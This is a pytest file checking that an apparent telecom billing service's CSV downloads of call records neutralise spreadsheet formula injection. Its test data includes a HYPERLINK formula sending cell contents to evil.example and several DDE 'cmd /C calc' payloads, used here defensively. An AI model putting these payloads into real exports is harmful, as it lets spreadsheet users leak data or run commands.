"""Issue 9, gap 4: CSV/formula injection. Text fields of stored CDRs that start with = + - @ TAB
or CR come out of cdrs.csv (the API's and the portal's download) with a ' in front, so that a
spreadsheet shows them as text; a value that is entirely a sign and digits (an E.164 number)
stays as it is; numbers and times are never touched; the stored CDR and the JSON API keep the
raw value. PostgreSQL neutralises in the COPY query, SQLite in the Python writer: both files
must be the same."""

from __future__ import annotations

import csv
import io
import random
import re
from datetime import timedelta
from typing import Any

from fastapi.testclient import TestClient
from sqlalchemy import select, text

from carrierdesk.cdrs.fields import REPORT_COLUMNS
from carrierdesk.cdrs.reports import _pg_safe, spreadsheet_safe
from carrierdesk.cdrs.storage import store
from carrierdesk.db import get_engine, transaction
from carrierdesk.models import Cdr
from fixtures.builders import T0, cdr, make_contact, make_customer, stored_cdr
from support import Api, postgres_only

PASSWORD = "Contact!Pass2026"
DAY = {"timeframe": "daily", "period_start": "2026-10-05"}
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
CMD = "+cmd|' /C calc'!A0"
ARITH = "-2+3+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
BREAKOUT = 'a",=1+1,"b'  # a quote and a separator inside: one cell, starting with a
# (call id, {column: value sent}) through the API; what each text cell must read in the CSV
SENT: list[tuple[str, dict[str, Any]]] = [
    ("inj-1", {"dest_name": HYPERLINK, "sip_reason": CMD, "release_reason": ARITH}),
    ("inj-2", {"caller": AT_SUM, "callee": "=1+1"}),
    ("=inj-3", {"dest_name": BREAKOUT, "sip_reason": "-", "release_reason": "+"}),
    ("inj-4", {"caller": "+441234567890", "callee": "-12025550143", "dest_name": "-5"}),
    ("inj-5", {"caller": "+44 20 7946 0958", "dest_name": "Mobile - UK", "sip_reason": "OK"}),
]
NUMERIC = ("customer_id", "duration", "billed_duration", "sip_code", "pdd_ms", "rate", "charge")


def neutral(value: str) -> str:
    """What OWASP's rule with the E.164 exception makes of a text cell (docs/decisions.md)."""
    if value and value[0] in "=+-@\t\r" and not re.fullmatch(r"[+-][0-9]+", value):
        return "'" + value
    return value


def seed(operator: Api, db_url: str, **customer: Any) -> int:
    cid = make_customer(operator, **customer)
    rows = [
        cdr(call_id, cid, start=T0 + timedelta(minutes=i), **fields)
        for i, (call_id, fields) in enumerate(SENT)
    ]
    answer = operator.post("/cdrs", rows)
    assert answer.status_code == 200 and answer.json()["accepted"] == len(SENT), answer.text
    # TAB and CR: the API strips a value's surrounding blanks, so these are stored directly
    with transaction(db_url) as session:
        start = T0 + timedelta(minutes=30)
        store(
            session,
            [
                stored_cdr(
                    cid,
                    "inj-6",
                    start,
                    answered=False,
                    sip_user="\t=1+1",
                    end_time=start + timedelta(seconds=5),
                    caller="\r=cmd|' /C calc'!A0",
                    dest_name="\tTab",
                    sip_reason="Busy Here",
                    pdd_ms=900,
                )
            ],
        )
    return cid


def stored_rows(db_url: str, cid: int) -> dict[str, dict[str, Any]]:
    with transaction(db_url) as session:
        found = session.scalars(select(Cdr).where(Cdr.customer_id == cid))
        columns = [c.key for c in Cdr.__table__.c]
        return {c.call_id: {k: getattr(c, k) for k in columns} for c in found}


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def check_report(text: str, stored: dict[str, dict[str, Any]], customer: dict[str, str]) -> None:
    lines = read(text)
    assert len(lines) == len(stored) == 6
    for line in lines:
        raw_id = next(k for k in stored if neutral(k) == line["call_id"])
        row = stored[raw_id]
        for column in ("sip_user", "caller", "callee", "dest_name", "sip_reason", "release_reason"):
            value = row[column]
            assert line[column] == ("" if value is None else neutral(value)), (raw_id, column)
        for column in NUMERIC:
            value = row.get(column)
            assert line[column] == ("" if value is None else str(value)), (raw_id, column)
        assert line["customer_name"] == neutral(customer["name"])
        assert line["customer_ref"] == neutral(customer["reference"])
        assert line["direction"] == "outbound" and line["currency"] == "USD"
        # no cell of the file is a formula
        assert [v for v in line.values() if v[:1] in ("=", "+", "-", "@", "\t", "\r")] == [
            v for v in line.values() if re.fullmatch(r"[+-][0-9]+", v)
        ]


CUSTOMER = {"name": '=HYPERLINK("http://evil.example","Acme")', "reference": "@ACME-1"}


def test_cdrs_csv_neutralises_every_trigger_and_keeps_the_stored_value(
    operator: Api, viewer: Api, db_url: str
) -> None:
    cid = seed(operator, db_url, **CUSTOMER)
    before = stored_rows(db_url, cid)
    assert before["inj-1"]["dest_name"] == HYPERLINK and before["inj-6"]["caller"][0] == "\r"
    response = viewer.get(f"/customers/{cid}/cdrs.csv", params=DAY)
    assert response.status_code == 200
    assert response.text.splitlines()[0] == ",".join(REPORT_COLUMNS)
    check_report(response.text, before, CUSTOMER)
    by_id = {line["call_id"]: line for line in read(response.text)}
    # spelled out, so that the rule itself is pinned down
    assert by_id["inj-1"]["dest_name"] == "'" + HYPERLINK
    assert by_id["inj-1"]["sip_reason"] == "'" + CMD
    assert by_id["inj-1"]["release_reason"] == "'" + ARITH
    assert by_id["inj-2"]["caller"] == "'" + AT_SUM and by_id["inj-2"]["callee"] == "'=1+1"
    assert by_id["'=inj-3"]["dest_name"] == BREAKOUT  # starts with a: left alone, quoted
    assert by_id["'=inj-3"]["sip_reason"] == "'-" and by_id["'=inj-3"]["release_reason"] == "'+"
    assert by_id["inj-4"]["caller"] == "+441234567890"  # E.164: a number, not a formula
    assert by_id["inj-4"]["callee"] == "-12025550143" and by_id["inj-4"]["dest_name"] == "-5"
    assert by_id["inj-5"]["caller"] == "'+44 20 7946 0958"  # not only digits: prefixed
    assert by_id["inj-5"]["dest_name"] == "Mobile - UK"
    assert by_id["inj-6"]["sip_user"] == "'\t=1+1" and by_id["inj-6"]["caller"].startswith("'\r=")
    assert by_id["inj-6"]["dest_name"] == "'\tTab"
    # the quote and the separator are CSV-quoted (every row has as many cells as columns)
    assert ',"a"",=1+1,""b",' in response.text
    assert {len(r) for r in csv.reader(io.StringIO(response.text, newline=""))} == {
        len(REPORT_COLUMNS)
    }

    # the stored CDRs are unchanged, and the JSON API returns the raw values
    assert stored_rows(db_url, cid) == before
    items = {c["call_id"]: c for c in viewer.get(f"/customers/{cid}/cdrs").json()["items"]}
    assert items["inj-1"]["dest_name"] == HYPERLINK and items["inj-2"]["caller"] == AT_SUM
    assert items["=inj-3"]["release_reason"] == "+" and items["inj-6"]["sip_user"] == "\t=1+1"


def test_chosen_columns_are_neutralised_too(operator: Api, db_url: str) -> None:
    cid = seed(operator, db_url, **CUSTOMER)
    response = operator.get(
        f"/customers/{cid}/cdrs.csv",
        params={**DAY, "columns": "call_id,customer_name,dest_name,charge"},
    )
    assert response.status_code == 200
    lines = response.text.splitlines()
    assert lines[0] == "call_id,customer_name,dest_name,charge"
    assert lines[1] == (
        'inj-1,"\'=HYPERLINK(""http://evil.example"",""Acme"")",'
        '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for details"")",0.012500'
    )


def portal_client(client: TestClient, operator: Api, cid: int) -> TestClient:
    make_contact(operator, cid, "Ann Lee", "ann@acme.example", password=PASSWORD)
    browser = TestClient(client.app)
    page = browser.get("/portal/login")
    form = {"email": "ann@acme.example", "password": PASSWORD}
    # the login form's CSRF token, when the page has one
    if found := re.search(r'name="csrf_token" value="([^"]+)"', page.text):
        form["csrf_token"] = found.group(1)
    logged_in = browser.post("/portal/login", data=form)
    assert logged_in.status_code == 200 and "/portal/login" not in str(logged_in.url)
    return browser


def test_portal_cdr_download_is_neutralised(client: TestClient, operator: Api, db_url: str) -> None:
    cid = seed(operator, db_url, **CUSTOMER)
    before = stored_rows(db_url, cid)
    portal = portal_client(client, operator, cid)
    response = portal.get("/portal/cdrs.csv", params=DAY)
    assert response.status_code == 200, response.text
    assert "cost" not in response.text.splitlines()[0].split(",")
    check_report(response.text, before, CUSTOMER)
    assert stored_rows(db_url, cid) == before


def test_the_rule() -> None:
    cases = {
        "=1+1": "'=1+1",
        "+1": "+1",
        "-1": "-1",
        "+": "'+",
        "-": "'-",
        "-1.5": "'-1.5",
        "+1e5": "'+1e5",
        "+٣": "'+٣",  # not an ASCII digit
        "@": "'@",
        "\t": "'\t",
        "\r\n": "'\r\n",
        "+44\n": "'+44\n",
        "a=1": "a=1",
        " =1": " =1",
        "'=1": "'=1",
        "": "",
    }
    assert {k: spreadsheet_safe(k) for k in cases} == cases
    assert spreadsheet_safe(None) is None


@postgres_only
def test_the_copy_query_applies_the_same_rule_as_python(db_url: str) -> None:
    """The CASE of the COPY query and spreadsheet_safe() agree on 5,000 random values built
    from trigger characters, signs, digits and other text."""
    pick = random.Random(2026)
    alphabet = "=+-@\t\r\n0123456789 a.,'\"|٣€"
    values = ["".join(pick.choices(alphabet, k=pick.randint(0, 6))) for _ in range(5000)]
    values += ["+441234567890", "-5", "+", "-", "", "=1+1"]
    query = (
        f"SELECT {_pg_safe('v')} FROM unnest(CAST(:values AS text[])) WITH ORDINALITY AS t(v, n) "
        "ORDER BY n"
    )
    with get_engine(db_url).connect() as conn:
        got = list(conn.execute(text(query), {"values": values}).scalars())
    assert got == [spreadsheet_safe(v) for v in values]
